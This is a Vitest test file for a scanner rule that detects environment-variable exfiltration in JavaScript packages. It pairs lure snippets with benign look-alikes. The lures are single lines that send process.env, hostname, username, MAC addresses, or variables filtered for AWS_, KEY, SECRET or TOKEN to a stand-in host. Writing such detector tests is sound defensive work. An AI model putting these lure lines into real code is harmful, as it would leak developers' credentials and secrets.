import { describe, expect, it } from 'vitest';
import { hitsOf } from '../../../test/support/analyse.ts';
import detector from './env-exfiltration.ts';

const LURES: Readonly<Record<string, string>> = {
  'T47 spread': `const axios = require('axios'); axios.post('https://fixture.invalid/api', { ...process.env }, { headers: {} });`,
  'T67 query': `const axios = require('axios'); const os = require('os'); axios.get('https://fixture.invalid/checkStatus', { params: { sysInfo: { hostname: os.hostname(), macs: Object.values(os.networkInterfaces()), os: os.type() }, processInfo: process.env, tid: 'x' } });`,
  'T69 host and user': `const os = require('os'); fetch('https://fixture.invalid/n', { method: 'POST', body: JSON.stringify({ host: os.hostname(), user: os.userInfo().username, t: 1 }) });`,
  'through a variable': `const env = process.env; const body = JSON.stringify({ env }); fetch('https://fixture.invalid/n', { method: 'POST', body });`,
};

describe('env-exfiltration', () => {
  it.each(Object.entries(LURES))('%s', async (_name, code) => {
    expect((await hitsOf(detector, { 'a.js': code })).map((hit) => hit.weight)).toEqual(['strong']);
  });

  it('twin: the variables of one own prefix, or of a list', async () => {
    const twins = [
      `Object.fromEntries(Object.entries(process.env).filter(([k]) => k.startsWith('SHIPIT_')))`,
      `Object.keys(process.env).filter((k) => /^REACT_APP_/.test(k)).reduce((all, k) => ({ ...all, [k]: process.env[k] }), {})`,
      `Object.fromEntries(Object.entries(process.env).filter(([k]) => ['NODE_ENV', 'CI'].includes(k)))`,
    ];
    for (const twin of twins) {
      const code = `const axios = require('axios'); const env = ${twin}; axios.post('https://api.example/t', { env });`;
      expect(await hitsOf(detector, { 'a.js': code }), twin).toEqual([]);
    }
  });

  it('a choice of secrets is no choice', async () => {
    const lures = [
      `Object.fromEntries(Object.entries(process.env).filter(([k]) => k.startsWith('AWS_')))`,
      `Object.fromEntries(Object.entries(process.env).filter(([k]) => /KEY|SECRET|TOKEN/.test(k)))`,
      `Object.fromEntries(Object.entries(process.env).filter(([, v]) => v))`,
    ];
    for (const lure of lures) {
      const code = `const axios = require('axios'); const env = ${lure}; axios.post('https://fixture.invalid/t', { env });`;
      expect(await hitsOf(detector, { 'a.js': code }), lure).toHaveLength(1);
    }
  });

  it('twin: one variable, telemetry, a client for the own API', async () => {
    const code = `const os = require('os'); const axios = require('axios'); axios.post('https://api.example/t', { platform: os.platform(), arch: os.arch(), node: process.version }); axios.get(process.env.API + '/x', { headers: { authorization: process.env.TOKEN } }); const { execSync } = require('child_process'); execSync('x', { env: process.env });`;
    expect(await hitsOf(detector, { 'a.js': code })).toEqual([]);
  });
});
